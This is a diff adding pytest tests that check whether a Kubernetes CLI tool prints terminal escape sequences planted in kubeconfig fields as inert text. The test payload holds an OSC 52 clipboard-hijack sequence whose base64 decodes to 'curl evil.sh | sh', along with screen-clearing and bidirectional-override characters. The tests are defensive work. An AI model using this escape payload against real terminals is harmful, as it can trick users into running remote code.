@@ -644,3 +644,58 @@ def test_files_merge_as_kubectl_merges_them(
     os.mkfifo(tmp_path / "third")
     monkeypatch.setenv("KUBECONFIG", f"{tmp_path / 'first'}{os.pathsep}{tmp_path / 'third'}")
     assert kubeconfig_files.list_contexts(None) == []
+
+
+# -- escapes planted in a kubeconfig -------------------------------------------------------------
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # sets the clipboard to `curl evil.sh | sh`
+PLANTED = OSC52 + "\x1b[2J\u202e\u200b\x9b31m"
+RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\u200b")
+
+
+def planted_kubeconfig(tmp_path: Path, where: str) -> tuple[Path, list[str]]:
+    config = kubeconfig(f"https://127.0.0.1:{closed_port()}", {"token": "t0ken"})
+    clusters, contexts, users = config["clusters"], config["contexts"], config["users"]
+    assert isinstance(clusters, list) and isinstance(contexts, list) and isinstance(users, list)
+    args = ["nodes"]
+    if where == "a context name":
+        contexts.append({"name": "evil" + PLANTED, "context": {"cluster": "prod"}})
+        args = ["--context", "nope", "nodes"]
+    elif where == "a plugin's stderr":
+        code = f"import sys; sys.stderr.write({PLANTED!r}); sys.exit(1)"
+        users[0]["user"] = plugin_user(code)
+    elif where == "a plugin's install hint":
+        users[0]["user"] = {
+            "exec": {"apiVersion": "v1", "command": "absent-plugin", "installHint": PLANTED}
+        }
+    elif where == "a tokenFile path":
+        users[0]["user"] = {"tokenFile": str(tmp_path / ("token" + PLANTED))}
+    elif where == "a proxy-url":
+        clusters[0]["cluster"]["proxy-url"] = f"gopher://127.0.0.1/{PLANTED}"
+    elif where == "the server URL":
+        clusters[0]["cluster"]["server"] += "/" + PLANTED
+    path = tmp_path / "config"
+    path.write_text(yaml.safe_dump(config))
+    return path, args
+
+
+@pytest.mark.parametrize(
+    "where",
+    [
+        "a context name",
+        "a plugin's stderr",
+        "a plugin's install hint",
+        "a tokenFile path",
+        "a proxy-url",
+        "the server URL",
+    ],
+)
+def test_escapes_planted_in_a_kubeconfig_reach_the_terminal_inert(
+    tmp_path: Path, where: str
+) -> None:
+    path, args = planted_kubeconfig(tmp_path, where)
+    result = mignurse("--kubeconfig", str(path), *args, timeout=60)
+    printed = result.stdout + result.stderr
+    assert not any(raw in printed for raw in RAW), printed
+    err = one_line_error(result)
+    assert "\\x1b]52;c;" in err
